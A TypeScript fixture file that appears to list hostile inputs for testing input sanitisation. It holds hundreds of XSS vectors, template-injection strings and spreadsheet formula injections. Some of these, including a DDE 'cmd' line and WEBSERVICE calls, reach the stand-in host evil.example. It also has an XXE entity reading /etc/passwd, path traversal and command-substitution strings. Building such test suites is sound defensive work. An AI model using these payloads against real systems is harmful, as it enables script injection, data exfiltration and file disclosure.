/** Words that run, break out, or mislead where somebody forgot that words are only words. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

const RUN = "window.__xss=1";
/** Nobody's address: whoever asks it has been led astray. */
const AWAY = "http://evil.example";

const family = (name: string, texts: readonly string[]): readonly Payload[] =>
  texts.map((text, index) => ({ name: `${name} ${index + 1}`, text }));

/** Elements whose handlers need nobody, or a touch. */
const HANDLERS: readonly (readonly [tag: string, rest: string])[] = [
  ["img", "src=x onerror"],
  ["img", "src=x:x onerror"],
  ["image", "src=x onerror"],
  ["svg", "onload"],
  ["svg/", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["body", "onhashchange"],
  ["iframe", "onload"],
  ["iframe", "src=about:blank onload"],
  ["embed", "src=x onload"],
  ["object", "data=x onerror"],
  ["video", "src=x onerror"],
  ["video", "><source onerror"],
  ["audio", "src=x onerror"],
  ["audio", "autoplay src=x onloadstart"],
  ["track", "default src=x onerror"],
  ["details", "open ontoggle"],
  ["input", "autofocus onfocus"],
  ["input", "type=image src=x onerror"],
  ["textarea", "autofocus onfocus"],
  ["select", "autofocus onfocus"],
  ["button", "autofocus onfocus"],
  ["button", "popovertarget=x onclick"],
  ["div", "contenteditable autofocus onfocus"],
  ["div", "style=animation-name:spin onanimationstart"],
  ["div", "style=content-visibility:auto oncontentvisibilityautostatechange"],
  ["a", "tabindex=0 autofocus onfocus"],
  ["marquee", "onstart"],
  ["link", "rel=stylesheet href=x onerror"],
  ["style", "onload"],
  ["script", "src=x onerror"],
  ["form", "oninput"],
  ["dialog", "open onclose"],
  ["xss", "id=x tabindex=1 onfocus"],
  ["svg><animate", "attributeName=x dur=1s onbegin"],
  ["svg><set", "attributeName=x onbegin"],
  ["svg><image", "href=x onerror"],
  ["svg><foreignObject><body", "onload"],
  ["math><mi", "onclick"],
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script >`,
  `<script\n>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=${AWAY}/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<base href=${AWAY}/>`,
  `<link rel=prefetch href=${AWAY}/x>`,
  `<img src=${AWAY}/x.png>`,
  `<form action=${AWAY}><button autofocus>x</button></form>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
];

/** What ends the place where words stand. */
const BREAKS = [
  `"><svg onload=${RUN}>`,
  `'><svg onload=${RUN}>`,
  `\`><svg onload=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}`,
  `x onerror=${RUN} `,
  `"/><img src=x onerror=${RUN}>`,
  `--><svg onload=${RUN}>`,
  `--!><svg onload=${RUN}>`,
  `]]><svg onload=${RUN}>`,
  "]]>",
  "]]>]]&gt;",
  "</script>",
  `</title><svg onload=${RUN}>`,
  `</textarea><svg onload=${RUN}>`,
  `</style><svg onload=${RUN}>`,
  `</noscript><svg onload=${RUN}>`,
  `</text></svg><img src=x onerror=${RUN}>`,
  `</template><img src=x onerror=${RUN}>`,
  `</a:t></a:r><script>${RUN}</script>`,
  `*/;${RUN};/*`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN}//`,
];

/** Text that is harmless until it is read a second time. */
const MUTATING = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<listing>&lt;img src=1 onerror=${RUN}&gt;</listing>`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<svg><![CDATA[<image xlink:href="]]><img src=x onerror=${RUN}//"></svg>`,
  `<table><td background="javascript:${RUN}">`,
  `<select><template><style><!--</style><a title="--><img src onerror=${RUN}>">`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  `'">><marquee><img src=x onerror=${RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${RUN}>`,
  `"'--></style></script><svg oNload=${RUN}>{{7*7}}\${7*7}`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript:%77indow.__xss=1`,
  `javascript://%0A${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
  `vbscript:${RUN}`,
  `<a href="javascript:${RUN}">x</a>`,
  `[x](javascript:${RUN})`,
  `//${AWAY.slice(7)}/x`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `\`\${${RUN}}\``,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `[[${RUN}]]`,
  `{%raw%}${RUN}{%endraw%}`,
  `@(${RUN})`,
  "$&$1$`$'$$",
  "%s%n%d%o%c",
  "%TITLE% %VERSION% %POLICY%",
];

const FORMULAS = [
  "=1+41",
  "+1+41",
  "-1+41",
  "@SUM(1;41)",
  "=cmd|'/c calc'!A1",
  `=HYPERLINK("${AWAY}";"x")`,
  `=WEBSERVICE("${AWAY}")`,
  `=IMPORTXML("${AWAY}","//a")`,
  "\t=1+41",
  " =1+41",
  "\u00A0=1+41",
  "\u200B=1+41",
  "＝1+41",
  "x;=1+41;y",
  "x,=1+41,y",
  "x\t=1+41",
  "x|@SUM(1)|y",
  'x;"=1+41";y',
  'x, "+1+41" ,y',
  "x\n=1+41",
  'x"\n=1+41\n"',
  '"=1+41"',
  "ID;PWXL;N;E",
  "{=1+41}",
];

/** Names that objects have by themselves. */
const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "then",
  "valueOf",
  "length",
];

const LETTERS = [
  "facture\u202Egpj.exe",
  "\u2066x\u2069\u2067y",
  "\u202Dabc\u202C",
  "\u200E\u200F\u061C",
  "a\u200Db\u200Cc\u2060d",
  "\uFEFFx",
  "x\uFFFE\uFFFF",
  "\u2028x\u2029",
  "\u0085x\u000B\u000C",
  "x\u0008\u001B[31mrouge\u001B[0m\u007F",
  "Z\u0351\u0343\u034B".repeat(20),
  "＜script＞＇＂",
  "ﷺ".repeat(40),
  "👨‍👩‍👧‍👦🏳️‍🌈",
  "_x000D__x0041_",
  "\u{E0001}\u{E0078}\u{E0073}",
];

/** Letters that no file of text can have, but JSON can. */
const IMPOSSIBLE = ["\0", "a\0b", "\uD800", "\uDC00x", "\uD83D\uD83D", "x\uDFFF<b>"];

const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;svg onload=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  "&#0;&#8;&#xFFFF;&#xD800;&nope;&",
];

const XML = [
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<!ENTITY a "&b;&b;">&a;`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<?xml version="1.0"?><x/>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  "<!-- x --><!-->",
  `<xi:include href="${AWAY}"/>`,
  `<xsl:script>${RUN}</xsl:script>`,
  `<html xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${RUN}</h:script>`,
];

const STYLES = [
  `</style><style>@import "${AWAY}";`,
  `red;background:url(${AWAY}/x)`,
  `url(javascript:${RUN})`,
  `expression(${RUN})`,
  `}*{display:none}`,
  `<div style="position:fixed;inset:0;background:red">`,
];

const PATHS = [
  "../../etc/passwd",
  "..\\..\\x",
  "C:\\x\\y",
  "CON",
  "\\\\evil.example\\x",
  "$(calc)",
  "`calc`",
  "x%00.html",
];

/** Those that a text file can hold. */
export const WRITABLE: readonly Payload[] = [
  ...HANDLERS.map(([tag, rest], index) => ({
    name: `handler ${index + 1}`,
    text: `<${tag} ${rest}=${RUN}>`,
  })),
  ...family("script", SCRIPTS),
  ...family("break", BREAKS),
  ...family("mutation", MUTATING),
  ...family("address", ADDRESSES),
  ...family("template", TEMPLATES),
  ...family("formula", FORMULAS),
  ...family("name", NAMES),
  ...family("letters", LETTERS),
  ...family("encoded", ENCODED),
  ...family("XML", XML),
  ...family("style", STYLES),
  ...family("path", PATHS),
  { name: "depth", text: "<b>".repeat(600) },
];

/** A label as long as a book: once, for it takes its time. */
export const LONG: Payload = {
  name: "length",
  text: `<img src=x onerror=${RUN}> `.repeat(4000).slice(0, 100_000),
};

export const PAYLOADS: readonly Payload[] = [...WRITABLE, ...family("impossible", IMPOSSIBLE), LONG];
